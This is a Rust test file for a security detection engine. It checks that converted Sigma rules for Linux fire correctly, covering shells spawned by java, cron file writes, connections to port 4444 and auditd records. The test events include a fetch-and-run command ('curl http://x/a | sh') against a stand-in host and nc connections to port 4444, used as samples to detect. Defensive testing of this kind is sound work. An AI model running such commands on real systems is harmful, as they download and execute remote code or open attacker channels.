//! Sigma import: the shared Linux corpus converts and loads; converted rules
//! mean what the Sigma rules mean (checked with embedded rule tests).

use peregrine_rules::sigma::{self, Outcome};
use peregrine_rules::{ruletest, Engine};

fn corpus() -> std::path::PathBuf {
    // Vendored SigmaHQ Linux rules (DRL 1.1; see rules/sigma-upstream/LICENSE).
    std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/sigma-upstream")
}

#[test]
fn shared_linux_corpus_converts_and_loads() {
    let dir = corpus();
    assert!(dir.is_dir(), "Sigma corpus missing at {}", dir.display());
    let mut conv = Vec::new();
    let mut skipped = Vec::new();
    for f in sigma::files(&dir).unwrap() {
        let text = std::fs::read_to_string(&f).unwrap();
        match sigma::convert(&f.display().to_string(), &text) {
            Outcome::Converted(c) => conv.push(c),
            Outcome::Skipped(s) => skipped.push(s),
        }
    }
    let text = sigma::rules_file(&conv);
    let engine =
        Engine::from_str("sigma.yaml", &text).unwrap_or_else(|e| panic!("{}", e.diagnostics[0]));
    assert_eq!(engine.stats().enabled, conv.len());
    assert!(conv.len() >= 190, "converted {}", conv.len());
    assert!(
        conv.iter()
            .filter(|c| c.category.starts_with("auditd:"))
            .count()
            >= 30,
        "auditd rules convert"
    );
    // Every skip has a reason; in-scope skips name a field, status or construct.
    for s in &skipped {
        assert!(!s.reason.is_empty(), "{}", s.file);
    }
    assert!(skipped
        .iter()
        .any(|s| s.reason.contains("DestinationHostname")));
}

fn with_tests(sigma_yaml: &str, tests: &str) -> Vec<ruletest::Outcome> {
    let c = match sigma::convert("t.yml", sigma_yaml) {
        Outcome::Converted(c) => c,
        Outcome::Skipped(s) => panic!("skipped: {}", s.reason),
    };
    let text = format!("{}  tests:\n{tests}", c.yaml);
    let engine = Engine::from_str("t.yaml", &text)
        .unwrap_or_else(|e| panic!("{}\n{text}", e.diagnostics[0]));
    let (outcomes, diags) = ruletest::run_all(&engine);
    assert!(diags.is_empty(), "{diags:?}");
    assert!(!outcomes.is_empty());
    outcomes
}

fn assert_all_pass(outcomes: &[ruletest::Outcome]) {
    for o in outcomes {
        assert!(
            o.passed(),
            "{} (expected fire={}, fired={})",
            o.name,
            o.expect,
            o.fired
        );
    }
}

#[test]
fn process_creation_semantics() {
    let sigma = r#"
title: Shell from java with curl
id: 11111111-2222-3333-4444-555555555555
status: test
logsource: {product: linux, category: process_creation}
detection:
    selection_parent:
        ParentImage|endswith: '/java'
    selection_cmd:
        CommandLine|contains|all:
            - 'curl'
            - 'http'
    selection_img:
        - Image|endswith: '/sh'
        - Image: '/usr/bin/BASH'
    filter:
        CommandLine|re: 'health(check)?$'
    condition: selection_parent and 1 of selection_img* and selection_cmd and not filter
level: high
tags: [attack.execution, attack.t1059.004]
"#;
    let tests = r#"    - name: java spawns sh running curl
      expect: fire
      event: {type: execve, proc: {name: sh, exepath: /bin/sh, args: [sh, -c, "curl http://x/a | sh"]}, ancestors: [{name: java, exepath: /opt/jdk/bin/java}]}
    - name: exact image match is case-insensitive
      expect: fire
      event: {type: execve, proc: {name: bash, exepath: /usr/bin/bash, args: [bash, -c, "curl http://x"]}, ancestors: [{name: java, exepath: /usr/bin/java}]}
    - name: contains|all needs every value
      expect: no_fire
      event: {type: execve, proc: {name: sh, exepath: /bin/sh, args: [sh, -c, "curl ftp://x"]}, ancestors: [{name: java, exepath: /usr/bin/java}]}
    - name: filter excludes health checks
      expect: no_fire
      event: {type: execve, proc: {name: sh, exepath: /bin/sh, args: [sh, -c, "curl http://x/healthcheck"]}, ancestors: [{name: java, exepath: /usr/bin/java}]}
    - name: other parents do not match
      expect: no_fire
      event: {type: execve, proc: {name: sh, exepath: /bin/sh, args: [sh, -c, "curl http://x"]}, ancestors: [{name: node, exepath: /usr/bin/node}]}
"#;
    assert_all_pass(&with_tests(sigma, tests));
}

#[test]
fn file_event_and_wildcards() {
    let sigma = r#"
title: Cron file created
logsource: {product: linux, category: file_event}
detection:
    selection:
        TargetFilename|startswith: '/etc/cron.'
    selection2:
        TargetFilename: '/var/spool/cron/*/root'
    condition: selection or selection2
level: medium
"#;
    let tests = r#"    - name: created in cron.d
      expect: fire
      event: {type: openat, proc: {name: tee}, fd: {name: /etc/cron.d/evil, flags: O_WRONLY|O_CREAT}}
    - name: glob in a plain value
      expect: fire
      event: {type: openat, proc: {name: tee}, fd: {name: /var/spool/cron/crontabs/root, flags: O_WRONLY|O_CREAT}}
    - name: reading is not creating
      expect: no_fire
      event: {type: openat, proc: {name: cat}, fd: {name: /etc/cron.d/evil, flags: O_RDONLY}}
"#;
    assert_all_pass(&with_tests(sigma, tests));
}

#[test]
fn network_connection_semantics() {
    let sigma = r#"
title: Connection to a metasploit port
logsource: {product: linux, category: network_connection}
detection:
    selection:
        Initiated: 'true'
        DestinationPort: 4444
    selection_net:
        DestinationIp|cidr: '10.0.0.0/8'
    condition: selection and not selection_net
level: high
"#;
    let tests = r#"    - name: outbound to 4444
      expect: fire
      event: {type: connect, proc: {name: nc}, net: {sip: 203.0.113.9, sport: 4444, cip: 192.168.1.2, cport: 50000, proto: tcp}}
    - name: internal network excluded by cidr
      expect: no_fire
      event: {type: connect, proc: {name: nc}, net: {sip: 10.1.2.3, sport: 4444, cip: 192.168.1.2, cport: 50000, proto: tcp}}
    - name: other port
      expect: no_fire
      event: {type: connect, proc: {name: nc}, net: {sip: 203.0.113.9, sport: 443, cip: 192.168.1.2, cport: 50000, proto: tcp}}
"#;
    assert_all_pass(&with_tests(sigma, tests));
}

#[test]
fn auditd_records_map_onto_kernel_events() {
    // EXECVE: a0..aN are argv.
    let sigma = r#"
title: Clipboard read with xclip
logsource: {product: linux, service: auditd}
detection:
    selection:
        type: EXECVE
        a0: xclip
        a1: '-selection'
        a3|contains: '-o'
    condition: selection
level: low
"#;
    let tests = r#"    - name: xclip -selection clipboard -o
      expect: fire
      event: {type: execve, proc: {name: xclip, args: [xclip, -selection, clipboard, -o]}}
    - name: xclip writing
      expect: no_fire
      event: {type: execve, proc: {name: xclip, args: [xclip, -selection, clipboard, -i]}}
    - name: another program with the same arguments
      expect: no_fire
      event: {type: execve, proc: {name: xsel, args: [xsel, -selection, clipboard, -o]}}
"#;
    assert_all_pass(&with_tests(sigma, tests));

    // PATH: name is the file.
    let sigma = r#"
title: Doas configuration written
logsource: {product: linux, service: auditd}
detection:
    selection:
        type: PATH
        name|endswith: '/doas.conf'
    condition: selection
level: medium
"#;
    let tests = r#"    - name: doas.conf written
      expect: fire
      event: {type: openat, proc: {name: vi}, fd: {name: /etc/doas.conf, flags: O_WRONLY|O_CREAT}}
    - name: other file
      expect: no_fire
      event: {type: openat, proc: {name: vi}, fd: {name: /etc/hosts, flags: O_WRONLY}}
"#;
    assert_all_pass(&with_tests(sigma, tests));

    // SYSCALL: the syscall becomes evt.type; execveat arrives as execve;
    // without a syscall the record is about the program run.
    let sigma = r#"
title: Web server user runs a command
logsource: {product: linux, service: auditd}
detection:
    selection:
        type: 'SYSCALL'
        SYSCALL: [execve, execveat]
        euid: 33
    condition: selection
level: high
"#;
    let tests = r#"    - name: www-data runs id
      expect: fire
      event: {type: execve, proc: {name: id}, user: {uid: 33, name: www-data}}
    - name: root runs id
      expect: no_fire
      event: {type: execve, proc: {name: id}, user: {uid: 0, name: root}}
"#;
    assert_all_pass(&with_tests(sigma, tests));

    for (what, det, reason) in [
        (
            "two record types",
            "    a: {type: EXECVE, a0: x}\n    b: {type: PATH, name: /y}\n    condition: a and b\n",
            "correlates several audit records",
        ),
        (
            "no equivalent",
            "    a: {type: SERVICE_STOP, unit: x}\n    condition: a\n",
            "no kernel-event equivalent",
        ),
        (
            "uncaptured syscall",
            "    a: {type: SYSCALL, SYSCALL: sysinfo}\n    condition: a\n",
            "'sysinfo' is not captured",
        ),
        (
            "audit key",
            "    a: {type: SYSCALL, key: susp}\n    condition: a\n",
            "audit rule keys",
        ),
    ] {
        let doc =
            format!("title: T\nlogsource: {{product: linux, service: auditd}}\ndetection:\n{det}");
        match sigma::convert("t.yml", &doc) {
            Outcome::Skipped(s) => {
                assert!(s.reason.contains(reason), "{what}: {}", s.reason);
                assert!(s.in_scope, "{what}: auditd rules are in scope");
            }
            Outcome::Converted(c) => panic!("{what} converted: {}", c.yaml),
        }
    }
}

#[test]
fn unsupported_constructs_are_named() {
    let cases = [
        (
            "keywords",
            "detection:\n    keywords: ['evil']\n    condition: keywords\n",
            "keyword",
        ),
        (
            "aggregation",
            "detection:\n    sel: {Image: /x}\n    condition: sel | count() > 3\n",
            "aggregation",
        ),
        (
            "field",
            "detection:\n    sel: {Hashes: abc}\n    condition: sel\n",
            "'Hashes'",
        ),
        (
            "modifier",
            "detection:\n    sel: {CommandLine|base64offset|contains: abc}\n    condition: sel\n",
            "base64offset",
        ),
        (
            "unknown id",
            "detection:\n    sel: {Image: /x}\n    condition: sel and other\n",
            "'other'",
        ),
        (
            "bad regex",
            "detection:\n    sel: {Image|re: '(unclosed'}\n    condition: sel\n",
            "regex",
        ),
    ];
    for (what, det, reason) in cases {
        let doc =
            format!("title: T\nlogsource: {{product: linux, category: process_creation}}\n{det}");
        match sigma::convert("t.yml", &doc) {
            Outcome::Skipped(s) => assert!(s.reason.contains(reason), "{what}: {}", s.reason),
            Outcome::Converted(c) => panic!("{what} converted: {}", c.yaml),
        }
    }
    // Not a Sigma file at all: a reason, never a panic.
    for junk in ["", "[", "title: x", "- a\n- b", "title: x\nlogsource: 5\n"] {
        assert!(matches!(sigma::convert("j.yml", junk), Outcome::Skipped(_)));
    }
}
